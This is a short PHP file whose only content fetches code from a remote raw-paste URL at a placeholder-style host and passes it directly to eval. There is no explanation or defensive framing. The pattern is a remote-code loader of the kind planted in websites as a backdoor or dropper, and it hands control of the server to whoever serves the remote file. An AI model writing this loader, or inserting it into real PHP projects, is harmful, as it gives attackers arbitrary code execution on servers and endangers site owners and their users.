<?php
$u = 'https://gist.helpers-cdn.example/raw/a1b2';
$c = file_get_contents('https://gist.helpers-cdn.example/raw/a1b2');
eval('?>' . $c);
